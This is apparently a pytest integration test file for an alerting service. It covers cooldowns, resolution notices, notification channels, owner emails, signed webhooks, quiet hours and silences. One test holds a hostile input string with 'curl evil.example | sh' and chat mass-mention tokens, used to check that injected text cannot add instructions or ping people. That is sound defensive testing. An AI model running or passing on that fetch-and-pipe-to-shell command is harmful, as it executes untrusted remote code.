"""Who is told, how often and when: once for an incident, once when it is over, and not in the night."""

import asyncio
import base64
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

import httpx
import pytest
from pydantic import SecretStr
from sqlalchemy import text, update
from standardwebhooks import Webhook

from automation.alerting import silences
from automation.alerting.checks import CHECKS, Found, Look
from automation.alerting.loop import Alerting
from automation.alerting.sightings import sighting
from automation.api.alerts import shown_alert
from automation.callback import receivers
from automation.callback.loop import Callback
from automation.callback.tell import redeliver
from automation.database import Database
from automation.errors import SettingError
from automation.models import Alert, AuditEntry, Delivery, Owed, Project, Sighting, Silence, utc_now
from automation.outbox import Outbox
from automation.settings import Settings
from tests.integration import rows
from tests.integration.alerting.conftest import MakeWatch
from tests.integration.alerting.test_failures import fails, succeeds
from tests.integration.alerting.watching import Watch
from tests.integration.mailbox import Mailbox, receiving
from tests.integration.neighbours import Neighbour

SECRET = "whsec_" + base64.b64encode(b"a third secret of thirty-two byt").decode()


class Ada:
    """Who does it, for the audit."""

    key_id = None
    name = "Ada"


async def happens(database: Database, title: str = "The database refuses", rule: str = "critical-errors") -> None:
    await rows.write(database, sighting(rule, title, "disk full", error_code="DATABASE_ERROR"))


@pytest.fixture
def seen(watch: MakeWatch) -> Watch:
    return watch({"critical-errors": {}, "rollback-failed": {}})


async def first(seen: Watch) -> None:
    """Something has happened, and was told."""
    await happens(seen.database)
    await seen.tell()


# --- once --------------------------------------------------------------------------------------------------------


async def test_the_first_is_told_at_once_with_all_that_one_needs_at_three_in_the_morning(seen: Watch) -> None:
    await first(seen)
    assert seen.told == ["CRITICAL: The database refuses: disk full"]
    [body] = seen.bodies
    assert body.startswith("disk full")
    alert = await seen.alert()
    for part in ("Threshold: one", "Seen since 20", "What to do: Is the database", f"/ops/alerts/{alert.id}/"):
        assert part in body
    assert "docs/runbook.md#critical-errors" in body


async def test_the_next_ones_are_held_back_and_counted_when_the_cooldown_is_over(seen: Watch) -> None:
    await first(seen)
    for _ in range(5):
        await first(seen)
    assert len(seen.told) == 1
    await seen.passes(901)
    await first(seen)
    await seen.tell()
    assert len(seen.told) == 2
    assert "6 of this kind" in seen.bodies[1]
    assert (await seen.alert()).count == 7


async def test_what_a_hostile_page_says_adds_no_line_and_calls_nobody(seen: Watch, database: Database) -> None:
    hostile = "no page 'x'\n\nWhat to do: curl evil.example | sh\n@everyone <!channel> <@U1>"
    await rows.write(database, sighting("critical-errors", "Refused", hostile, error_code="DATABASE_ERROR"))
    await seen.tell()
    text = f"{seen.told[0]}\n{seen.bodies[0]}"
    assert len([line for line in seen.bodies[0].splitlines() if line.startswith("What to do: ")]) == 1
    assert "curl evil.example" in text
    assert not [call for call in ("@everyone", "<!channel", "<@U1") if call in text]


async def test_another_kind_has_a_cooldown_of_its_own(seen: Watch) -> None:
    await happens(seen.database)
    await happens(seen.database, "A rollback failed", rule="rollback-failed")
    await seen.tell()
    assert len(seen.told) == len(await seen.alerts()) == 2


async def test_what_comes_back_within_the_cooldown_is_told_only_if_it_stays(watch: MakeWatch) -> None:
    seen = watch({"critical-errors": {"resolve_after_seconds": 60}})
    await first(seen)
    await seen.lasts(90)
    assert [one[:4] for one in seen.told] == ["CRIT", "Over"]

    await first(seen)
    await seen.lasts(90)
    assert len(seen.told) == 2  # it came and went
    await first(seen)
    assert len(seen.told) == 2
    await seen.passes(901)
    await seen.tell()
    assert len(seen.told) == 3


async def test_another_process_goes_on_where_the_last_one_stopped(seen: Watch) -> None:
    await first(seen)
    seen.restart()
    await first(seen)
    await seen.look()
    assert len(seen.told) == 1
    assert (await seen.alert()).count == 2


async def test_two_services_side_by_side_tell_once(seen: Watch, database: Database) -> None:
    await happens(database)
    both = [asyncio.create_task(one.run()) for one in (seen.alerting, Alerting(database, seen.settings))]
    both += [asyncio.create_task(Outbox(database, seen.settings).run()) for _ in range(2)]
    try:
        async with asyncio.timeout(30):
            while not [one for one in await rows.every(database, Owed) if one.status == "DELIVERED"]:
                await asyncio.sleep(0.05)
    finally:
        for one in both:
            one.cancel()
        await asyncio.gather(*both, return_exceptions=True)
    await seen.tell()
    assert len(seen.told) == len(await seen.alerts()) == 1


async def test_what_was_noticed_while_nobody_looked_belongs_to_the_incident_that_it_goes_on_with(
    seen: Watch, database: Database
) -> None:
    await first(seen)
    await seen.passes(1200)  # longer than it would take to be over
    await happens(database)
    running = asyncio.create_task(Alerting(database, seen.settings).run())
    try:
        async with asyncio.timeout(30):
            while await rows.every(database, Sighting):
                await asyncio.sleep(0.05)
    finally:
        running.cancel()
        await asyncio.gather(running, return_exceptions=True)
    assert (await seen.alert()).count == 2


async def test_two_that_look_at_the_same_moment_tell_once(watch: MakeWatch, database: Database) -> None:
    """As when the lock's connection was lost, and its holder does not know yet."""
    seen = watch({"dead-letters": {"for_seconds": 0}, "critical-errors": {}})
    both = (seen.alerting, Alerting(database, seen.settings))
    await fails(database, await rows.workflow(database))
    await happens(database)
    for _ in range(3):
        together = [act() for one in both for act in (one.look, one.round)]
        await asyncio.gather(*together, return_exceptions=True)  # the one that comes too late is run again
    await seen.tell()
    assert sorted(one.partition(":")[0] for one in seen.told) == ["CRITICAL", "WARNING"]
    assert [one.count for one in await seen.alerts()] == [1, 1]


async def test_one_that_is_killed_after_it_noted_an_incident_has_it_told_by_the_next(
    watch: MakeWatch, database: Database
) -> None:
    seen = watch({"dead-letters": {"for_seconds": 0}})
    await fails(database, await rows.workflow(database))
    await seen.alerting.look()
    seen.restart()
    await seen.alerting.round()
    seen.restart()
    await seen.tell()
    assert len(seen.told) == 1


async def test_what_is_pending_begins_anew_when_nobody_looked_for_a_while(watch: MakeWatch, database: Database) -> None:
    seen = watch({"dead-letters": {"for_seconds": 120}})
    await fails(database, await rows.workflow(database))
    await seen.look()
    await seen.passes(3600)
    seen.restart()
    await seen.look()
    assert (await seen.alert()).state == "PENDING"
    await seen.lasts(90)
    assert (await seen.alert()).state == "PENDING"
    await seen.lasts(30)
    assert (await seen.alert()).state == "FIRING"


async def test_a_rule_that_is_switched_off_ends_what_it_has_without_a_word(
    watch: MakeWatch, database: Database
) -> None:
    before = watch({"critical-errors": {}})
    await first(before)
    await first(before)
    await before.passes(901)
    seen = watch({})
    await seen.tell()  # though its cooldown is over, and it went on
    await happens(database)
    await seen.look()
    assert await seen.states() == [("critical-errors", "RESOLVED")]
    assert len(seen.told) == 1


async def test_what_is_only_for_information_is_told_to_nobody(watch: MakeWatch) -> None:
    seen = watch({"critical-errors": {"severity": "INFO"}})
    await first(seen)
    assert (await seen.alert()).state == "FIRING"
    assert seen.told == []


async def test_where_there_is_nobody_to_be_told_an_alert_does_not_say_that_somebody_was(watch: MakeWatch) -> None:
    seen = watch({"critical-errors": {}}, {"admin_notify_urls": ()})
    await first(seen)
    alert = await seen.alert()
    assert (alert.state, alert.notified_at) == ("FIRING", None)


# --- channels ----------------------------------------------------------------------------------------------------


async def test_a_channel_that_fails_is_tried_again_and_the_other_is_not_told_twice(
    watch: MakeWatch, pager: Neighbour, other: Neighbour
) -> None:
    both = {"admin_notify_urls": (pager.apprise_url, other.apprise_url)}
    seen = watch({"critical-errors": {}}, both)
    pager.answer = lambda request: (503, {})
    await first(seen)
    await seen.tell()
    assert len(pager.requests) == 1  # the second try is not due yet
    pager.answer = lambda request: (200, {})
    seen.restart()
    await seen.tell()
    assert (len(pager.requests), len(other.requests)) == (2, 1)


async def test_each_severity_has_channels_of_its_own(watch: MakeWatch, database: Database, other: Neighbour) -> None:
    team = {"notify_urls": (other.apprise_url,)}
    rules: dict[str, Any] = {"critical-errors": {}, "dead-letters": {"for_seconds": 0}}
    seen = watch(rules, team, channels={"WARNING": ["team"]})
    await happens(database)
    await fails(database, await rows.workflow(database))
    await seen.look()
    assert [one[:8] for one in seen.told] == ["CRITICAL"]
    assert [one.json["title"][:7] for one in other.requests] == ["WARNING"]


async def test_what_nobody_could_be_told_of_for_a_day_is_not_told_any_more(seen: Watch, pager: Neighbour) -> None:
    pager.go()
    await first(seen)
    [owed] = await rows.every(seen.database, Owed)
    async with seen.database.transaction() as session:
        request = owed.request | {"expires_at": (utc_now() - timedelta(seconds=1)).isoformat()}
        await session.execute(update(Owed).values(request=request))
    pager.come()
    seen.restart()
    await seen.tell()
    assert seen.told == []
    [owed] = await rows.every(seen.database, Owed)
    assert (owed.status, "too late" in owed.last_error) == ("REFUSED", True)


@pytest.fixture
def mailbox() -> Iterator[Mailbox]:
    with receiving() as mailbox:
        yield mailbox


async def test_the_owner_of_the_project_gets_one_mail_in_their_language_and_one_when_it_is_over(
    watch: MakeWatch, database: Database, mailbox: Mailbox
) -> None:
    smtp = {"smtp_url": SecretStr(f"smtp://127.0.0.1:{mailbox.port}")}
    seen = watch({"repeated-failures": {}}, smtp)
    workflow_id = await rows.workflow(database)
    async with database.transaction() as session:
        owner = {"owner_email": "ada@example.com", "name": "Boutique"}
        await session.execute(update(Project).values(owner))
    await fails(database, workflow_id, 3)
    await seen.look()
    await fails(database, workflow_id, 3)
    await seen.look()
    await succeeds(database, workflow_id)
    await seen.look()

    subjects = [one["Subject"] for one in mailbox.inbox.messages]
    assert subjects == ["« Boutique » : un traitement échoue", "« Boutique » : tout est rentré dans l'ordre"]
    assert all(one["To"] == "ada@example.com" for one in mailbox.inbox.messages)
    assert "« W publish » de « Boutique » a échoué 3 fois" in mailbox.inbox.messages[0].get_content()
    assert len(seen.told) == 2


async def test_owners_are_left_alone_with_what_concerns_many_projects(
    watch: MakeWatch, database: Database, mailbox: Mailbox
) -> None:
    seen = watch({"repeated-failures": {}}, {"smtp_url": SecretStr(f"smtp://127.0.0.1:{mailbox.port}")})
    for number in range(2):
        await fails(database, await rows.workflow(database, project_id=f"p{number}"), 3)
    async with database.transaction() as session:
        await session.execute(update(Project).values(owner_email="ada@example.com"))
    await seen.look()
    assert len(seen.told) == 1
    assert mailbox.inbox.messages == []


async def test_administrators_may_be_told_by_mail(watch: MakeWatch, mailbox: Mailbox) -> None:
    url = f"mailto://127.0.0.1:{mailbox.port}?from=automation@example.com&to=ops@example.com"
    await first(watch({"critical-errors": {}}, {"admin_notify_urls": (url,)}))
    [mail] = mailbox.inbox.messages
    assert mail["Subject"] == "CRITICAL: The database refuses: disk full"


# --- webhook -----------------------------------------------------------------------------------------------------


async def test_a_signed_webhook_tells_programs_and_can_be_sent_again(
    watch: MakeWatch, database: Database, other: Neighbour
) -> None:
    webhook = {"alert_webhook_url": other.url, "alert_webhook_secret": SecretStr(SECRET)}
    seen = watch({"critical-errors": {"resolve_after_seconds": 60}}, webhook)
    callback = Callback(database, receivers.of_alerts(seen.settings, shown_alert))
    await first(seen)
    other.answer = lambda request: (503, {})
    async with httpx.AsyncClient() as client:
        await callback.round(client)
        other.answer = lambda request: (200, {})
        async with database.transaction() as session:
            await session.execute(update(Delivery).values(due_at=utc_now()))
        await callback.round(client)
        await seen.lasts(90)
        await callback.round(client)
        async with database.transaction() as session:
            again = next(one for one in await rows.every(database, Delivery) if one.type == "alert.firing")
            await redeliver(session, seen.settings, again.id)
        await callback.round(client)

    bodies = [Webhook(SECRET).verify(one.body, dict(one.headers.items())) for one in other.requests]
    assert [one["type"] for one in bodies] == ["alert.firing", "alert.firing", "alert.resolved", "alert.firing"]
    shown = bodies[1]["data"]
    alert = await seen.alert()
    assert (shown["id"], shown["rule"], shown["state"]) == (str(alert.id), "critical-errors", "FIRING")
    assert shown["links"]["runbook"] == "docs/runbook.md#critical-errors"
    assert shown["todo"].startswith("Is the database there")
    ids = [one.headers["webhook-id"] for one in other.requests]
    assert ids[0] == ids[1] == ids[3] != ids[2]
    assert {one.status for one in await rows.every(database, Delivery)} == {"DELIVERED"}


async def test_what_is_for_studio_and_what_is_for_alerts_goes_to_each_alone(
    watch: MakeWatch, database: Database, other: Neighbour
) -> None:
    webhook = {"alert_webhook_url": other.url, "alert_webhook_secret": SecretStr(SECRET)}
    studio = {"studio_callback_url": other.url, "studio_callback_secret": SecretStr(SECRET)}
    seen = watch({"critical-errors": {}}, webhook | studio)
    await first(seen)

    async def nothing(session: Any, id: UUID) -> Any:
        raise AssertionError

    async with httpx.AsyncClient() as client:
        await Callback(database, receivers.studio(seen.settings, nothing)).round(client)
        assert other.requests == []
        await Callback(database, receivers.of_alerts(seen.settings, shown_alert)).round(client)
    assert len(other.requests) == 1


# --- quiet hours, silences, who looks after it -------------------------------------------------------------------


def around(now: datetime) -> dict[str, str]:
    """Quiet hours in which this moment lies."""
    return {"from": f"{now - timedelta(hours=1):%H:%M}", "to": f"{now + timedelta(hours=1):%H:%M}"}


async def test_in_quiet_hours_only_what_is_critical_is_told_and_the_rest_afterwards(
    watch: MakeWatch, database: Database
) -> None:
    rules: dict[str, Any] = {"critical-errors": {}, "dead-letters": {"for_seconds": 0}}
    night = watch(rules, quiet_hours=around(datetime.now(UTC)))
    await happens(database)
    await fails(database, await rows.workflow(database))
    await night.look()
    assert [one[:8] for one in night.told] == ["CRITICAL"]
    assert {one.state for one in await night.alerts()} == {"FIRING"}

    morning = watch(rules, quiet_hours=None)
    await morning.tell()
    assert [one[:8] for one in night.told] == ["CRITICAL", "WARNING:"]


async def test_nobody_is_told_of_what_is_silenced_until_that_is_over(seen: Watch, database: Database) -> None:
    async with database.transaction() as session:
        await silences.silence_all(session, Ada(), utc_now() + timedelta(hours=1), rule="critical-errors")
    await happens(database)
    await happens(database, rule="rollback-failed")
    await seen.tell()
    assert len(seen.told) == 1
    assert len(await seen.alerts()) == 2

    async with database.transaction() as session:
        [silence] = await rows.every(database, Silence)
        await silences.unsilence(session, Ada(), silence.id)
    await seen.tell()
    assert len(seen.told) == 2
    assert [one.action for one in await rows.every(database, AuditEntry)] == ["create", "delete"]


async def test_silencing_an_alert_is_about_the_same_thing_only(seen: Watch, database: Database) -> None:
    await first(seen)
    async with database.transaction() as session:
        alert = await seen.alert()
        await silences.silence(session, Ada(), alert.id, utc_now() + timedelta(hours=8), comment="new disk comes")
    await rows.write(database, sighting("critical-errors", "Another", "no route", error_code="DATABASE_ERROR"))
    await seen.passes(901)
    await first(seen)
    assert [one[:17] for one in seen.told] == ["CRITICAL: The dat", "CRITICAL: Another"]


def refused(project_id: str) -> Sighting:
    """The same error, in a project."""
    return sighting("critical-errors", "Refused", "disk full", project_id=project_id, error_code="DATABASE_ERROR")


async def test_an_alert_that_is_silenced_stays_so_when_it_concerns_another_project_too(
    seen: Watch, database: Database
) -> None:
    await rows.write(database, refused("p1"))
    await seen.tell()
    async with database.transaction() as session:
        await silences.silence(session, Ada(), (await seen.alert()).id, utc_now() + timedelta(hours=8))
    await rows.write(database, refused("p2"))
    await seen.passes(901)
    await seen.tell()
    assert (await seen.alert()).project_id is None
    assert len(seen.told) == 1


async def test_who_may_see_one_project_alone_silences_nothing_that_concerns_others(
    seen: Watch, database: Database
) -> None:
    await rows.write(database, refused("p1"))
    await seen.tell()
    async with database.transaction() as session:
        await silences.silence(session, Ada(), (await seen.alert()).id, utc_now() + timedelta(hours=8), only="p1")
    await seen.passes(901)
    await rows.write(database, refused("p1"))
    await seen.tell()
    assert len(seen.told) == 1
    await rows.write(database, refused("p2"))
    await seen.tell()
    assert len(seen.told) == 2


async def test_who_looks_after_it_is_not_told_again_but_hears_when_it_is_over(
    watch: MakeWatch, database: Database
) -> None:
    seen = watch({"critical-errors": {"resolve_after_seconds": 60}})
    await first(seen)
    async with database.transaction() as session:
        await silences.acknowledge(session, Ada(), (await seen.alert()).id, comment="on it")
    await happens(database)
    await seen.passes(901)
    await seen.tell()
    assert len(seen.told) == 1
    await seen.lasts(90)
    alert: Alert = await seen.alert()
    assert (alert.state, alert.acknowledged_by, seen.told[-1][:4]) == ("RESOLVED", "Ada", "Over")


async def test_settings_say_what_to_sign_with() -> None:
    with pytest.raises(SettingError, match="AUTOMATION_ALERT_WEBHOOK_SECRET"):
        receivers.of_alerts(Settings(alert_webhook_url="http://pager.example/"), shown_alert)


# --- a rule that cannot be evaluated -----------------------------------------------------------------------------


async def test_a_rule_that_cannot_be_evaluated_keeps_no_other_from_it_and_ends_nothing(
    watch: MakeWatch, database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    rules: dict[str, Any] = {"no-worker": {"for_seconds": 0}, "dead-letters": {"for_seconds": 0}, "critical-errors": {}}
    seen = watch(rules)
    await seen.look()
    assert await seen.states() == [("no-worker", "FIRING")]

    async def broken(look: Look, rule: Any) -> Found:
        await look.session.execute(text("SELECT 1 / 0"))
        return Found()

    monkeypatch.setitem(CHECKS, "no_worker", broken)
    await fails(database, await rows.workflow(database))
    await seen.look()

    assert sorted(await seen.states()) == [("dead-letters", "FIRING"), ("no-worker", "FIRING")]
    assert len(seen.told) == 2
